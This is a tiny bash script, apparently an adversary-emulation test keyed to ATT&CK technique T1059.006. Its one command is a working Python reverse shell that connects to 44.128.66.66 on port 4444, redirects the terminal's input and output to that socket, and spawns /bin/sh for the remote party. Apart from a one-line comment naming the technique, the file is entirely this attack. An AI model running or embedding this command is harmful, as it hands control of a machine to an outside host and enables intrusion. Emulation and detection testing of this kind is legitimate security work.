#!/bin/bash
# T1059.006: A one-line Python program takes a terminal's shell to somebody outside.
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("44.128.66.66",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' </dev/null
